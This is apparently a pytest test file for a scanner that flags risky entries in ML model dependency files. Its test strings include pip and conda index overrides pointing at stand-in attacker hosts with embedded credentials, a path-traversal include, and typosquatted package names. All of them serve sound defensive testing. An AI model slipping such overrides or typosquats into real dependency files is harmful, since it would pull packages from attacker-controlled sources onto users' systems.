"""Requirement and environment files: what pip and conda would install, judged unread by pip."""

from __future__ import annotations

import json
import re
from pathlib import Path

import mlflow.sklearn
import numpy as np
import pytest
from packaging.specifiers import SpecifierSet
from sklearn.linear_model import LogisticRegression

from gates.base import Finding, Severity
from gates.security.requirements import (
    check_requirements,
    popular_packages,
    typosquat_target,
    vulnerable_pins,
)


def _scan(tmp_path: Path, name: str, text: str) -> list[Finding]:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return check_requirements(tmp_path)


def _by_line(findings: list[Finding]) -> dict[int, list[str]]:
    out: dict[int, list[str]] = {}
    for f in findings:
        out.setdefault(f.evidence["line"], []).append(f.rule_id)
    return out


@pytest.mark.slow
def test_files_mlflow_writes_for_a_sklearn_model_are_clean(tmp_path: Path) -> None:
    features = np.random.default_rng(0).normal(size=(20, 2))
    model = LogisticRegression().fit(features, (features[:, 0] > 0).astype(int))
    mlflow.sklearn.save_model(model, tmp_path / "m", serialization_format="pickle")
    assert {p.name for p in (tmp_path / "m").iterdir()} >= {
        "requirements.txt",
        "conda.yaml",
        "python_env.yaml",
    }
    assert check_requirements(tmp_path / "m") == []


def test_index_overrides_are_high_and_credentials_never_shown(tmp_path: Path) -> None:
    findings = _scan(
        tmp_path,
        "requirements.txt",
        "numpy==1.26.4\n"
        "--extra-index-url https://deploy:s3cr3t-t0ken@pkgs.evil.example/simple\n"
        "-i https://pypi.evil.example/simple\n"
        "--extra-index https://abbreviated.example/simple\n"
        "--find-links=./wheels\n"
        "--trusted-host evil.example\n",
    )
    assert _by_line(findings) == {line: ["SEC-REQ-001"] for line in (2, 3, 4, 5, 6)}
    assert all(f.severity == Severity.HIGH and f.file == "requirements.txt" for f in findings)
    assert findings[2].evidence["option"] == "--extra-index-url"  # pip's abbreviation resolved
    dumped = json.dumps([f.to_dict() for f in findings])
    assert "s3cr3t-t0ken" not in dumped and "deploy:" not in dumped
    assert "https://***@pkgs.evil.example/simple" in dumped


def test_packages_not_from_an_index(tmp_path: Path) -> None:
    findings = _scan(
        tmp_path,
        "requirements.txt",
        "git+https://github.com/someone/pkg.git#egg=pkg\n"
        "foo @ https://example.com/foo-1.0-py3-none-any.whl\n"
        "./vendored/pkg\n"
        "file:///tmp/thing.whl\n"
        "-e .\n"
        "bar-1.0.tar.gz\n"
        "-r https://example.com/more.txt\n"
        "-r ../../../etc/requirements.txt\n",
    )
    kinds = {f.evidence["line"]: f.evidence["kind"] for f in findings}
    assert kinds == {1: "vcs", 2: "url", 3: "file", 4: "file", 5: "editable", 6: "file"} | {
        7: "url",
        8: "file",
    }
    assert {f.rule_id for f in findings} == {"SEC-REQ-002"}


def test_included_requirement_file_inside_the_artifact_is_read(tmp_path: Path) -> None:
    (tmp_path / "deps").mkdir()
    (tmp_path / "deps" / "extra.in").write_text("reqeusts==2.31.0\n")
    findings = _scan(tmp_path, "requirements.txt", "-r deps/extra.in\n")
    [typo] = findings
    assert typo.rule_id == "SEC-REQ-003" and typo.file == "deps/extra.in"
    assert typo.evidence["looks_like"] == "requests"


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("nunpy", "numpy"),  # substitution
        ("reqeusts", "requests"),  # swap of neighbours
        ("scikitlearn", "scikit-learn"),  # deletion (after normalisation)
        ("pandass", "pandas"),  # insertion
        ("Tensor_Flow", "tensorflow"),  # normalises to tensor-flow: one insertion
        ("pandasss", None),  # two edits
        ("numpy", None),  # exact match
        ("scikit_learn", None),  # the same name, normalised
        ("scapy", None),  # a real package one edit from scipy, listed
        ("jaxx", None),  # names under 5 characters are not compared
    ],
)
def test_typosquat_distance_one(name: str, target: str | None) -> None:
    assert typosquat_target(name) == target


def test_typosquat_finding(tmp_path: Path) -> None:
    [finding] = _scan(tmp_path, "requirements.txt", "pandas==2.2.0\nnunpy>=1.0\n")
    assert finding.rule_id == "SEC-REQ-003" and finding.severity == Severity.HIGH
    assert finding.evidence == {
        "line": 2,
        "package": "nunpy",
        "looks_like": "numpy",
        "requirement": "nunpy>=1.0",
    }


def test_vulnerable_pins_medium_or_high_when_code_execution(tmp_path: Path) -> None:
    findings = _scan(
        tmp_path,
        "requirements.txt",
        "scikit-learn==1.4.2\ntorch==2.5.1\nmlflow>=2.0\nrequests==2.32.3\n",
    )
    by_advisory = {f.evidence["advisory"]: f for f in findings}
    assert set(by_advisory) == {"CVE-2024-5206", "CVE-2025-32434"}
    assert by_advisory["CVE-2024-5206"].severity == Severity.MEDIUM
    assert by_advisory["CVE-2025-32434"].severity == Severity.HIGH
    assert by_advisory["CVE-2025-32434"].evidence["line"] == 2
    assert all(f.rule_id == "SEC-REQ-004" for f in findings)


def test_conda_channels_pip_section_and_variables(tmp_path: Path) -> None:
    findings = _scan(
        tmp_path,
        "conda.yaml",
        "name: env\n"
        "channels:\n"
        "- conda-forge\n"
        "- https://conda.evil.example/channel\n"
        "dependencies:\n"
        "- python=3.11\n"
        "- someone::numpy\n"
        "- pyyaml==5.3\n"
        "- pip:\n"
        "  - --index-url https://evil.example/simple\n"
        "  - mlflow==3.1.0\n"
        "variables:\n"
        "  PIP_EXTRA_INDEX_URL: https://evil.example/simple\n",
    )
    assert _by_line(findings) == {
        4: ["SEC-REQ-001"],
        7: ["SEC-REQ-001"],
        8: ["SEC-REQ-004", "SEC-REQ-004"],  # CVE-2020-1747 and CVE-2020-14343
        10: ["SEC-REQ-001"],
        13: ["SEC-REQ-001"],
    }


def test_python_env_dependencies(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("mlflow==3.17.2\n")
    findings = _scan(
        tmp_path,
        "python_env.yaml",
        "python: 3.11.7\n"
        "build_dependencies:\n"
        "- pip==24.0\n"
        "dependencies:\n"
        "- -r requirements.txt\n"
        "- git+https://github.com/x/y.git\n",
    )
    [vcs] = findings
    assert (vcs.rule_id, vcs.file, vcs.evidence["line"]) == ("SEC-REQ-002", "python_env.yaml", 6)


def test_what_we_cannot_parse_fails_closed(tmp_path: Path) -> None:
    findings = _scan(tmp_path, "requirements.txt", "--no-such-option x\nnot a requirement!!\n")
    findings += _scan(tmp_path / "sub", "conda.yaml", "channels: [unclosed\n")
    assert [(f.rule_id, f.file) for f in findings] == [
        ("SEC-REQ-005", "requirements.txt"),
        ("SEC-REQ-005", "requirements.txt"),
        ("SEC-REQ-005", "conda.yaml"),
    ]


def test_shipped_tables_are_well_formed() -> None:
    popular = popular_packages()
    assert len(popular) >= 100
    assert {"numpy", "scikit-learn", "torch", "mlflow", "requests"} <= popular
    pins = vulnerable_pins()
    assert len(pins) >= 20
    for pin in pins:
        assert re.fullmatch(r"(CVE-\d{4}-\d{4,}|GHSA(-[0-9a-z]{4}){3})", pin.advisory), pin
        assert isinstance(pin.specifier, SpecifierSet) and str(pin.specifier)
    assert any(p.package == "mlflow" and p.advisory == "CVE-2023-6015" for p in pins)
